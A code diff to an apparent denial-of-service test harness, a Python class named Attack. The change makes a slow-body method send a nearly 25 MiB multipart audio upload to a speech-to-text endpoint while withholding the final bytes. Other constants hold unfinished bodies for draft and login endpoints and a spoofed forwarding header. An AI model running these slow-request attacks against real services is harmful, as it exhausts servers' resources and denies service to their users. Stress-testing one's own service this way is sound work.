@@ -44,6 +44,8 @@ MIB = 1024 * 1024
 _LISTS = b'{"email":[' + b"[]," * EMPTY_LISTS + b"[]]}"
 _UNFINISHED = {"/api/drafts": b" " * 4_980_000, "/api/auth/login": b" " * 45_000}
 _MISSING = 20_000  # bytes of each that never come
+_AUDIO = b'--b\r\nContent-Disposition: form-data; name="audio"; filename="a.webm"\r\nContent-Type: audio/webm\r\n\r\n'
+_RECORDING = _AUDIO.ljust(25 * MIB - _MISSING, b"x")
 
 _HOME = {"X-Forwarded-For": "192.0.2.66"}
 _NETWORK = "2001:db8:bad:1::"  # documentation addresses (RFC 3849)
@@ -188,13 +190,15 @@ class Attack:
             finally:
                 writer.close()
 
-    async def _begin(self, path: str, size: int, cookie: str = "") -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
-        """Announce a body of this many bytes."""
+    async def _begin(
+        self, path: str, size: int, cookie: str = "", kind: str = "application/json"
+    ) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
+        """Announce a body of this many bytes, and of this content type."""
         at = urlsplit(self.url)
         reader, writer = await asyncio.open_connection(at.hostname, at.port)
         head = f"POST {path} HTTP/1.1\r\nHost: {at.netloc}\r\nOrigin: {self.url}\r\n"
         head += f"Cookie: {cookie}\r\n" if cookie else ""
-        writer.write(f"{head}Content-Type: application/json\r\nContent-Length: {size}\r\n\r\n".encode())
+        writer.write(f"{head}Content-Type: {kind}\r\nContent-Length: {size}\r\n\r\n".encode())
         return reader, writer
 
     async def hostile_sound(self) -> None:
@@ -229,9 +233,10 @@ class Attack:
 
     async def held_sounds(self) -> None:
         """Send all but the end of the largest recordings, by each session of one account, and then a byte at times."""
-        reader, writer = await self._begin("/api/stt", 25 * MIB, next(self._turn))
+        kind = "multipart/form-data; boundary=b"
+        reader, writer = await self._begin("/api/stt", 25 * MIB, next(self._turn), kind)
         try:
-            writer.write(b"x" * (25 * MIB - _MISSING))
+            writer.write(_RECORDING)
             while self.is_going_on() and not reader.at_eof():
                 await writer.drain()
                 await asyncio.sleep(5)
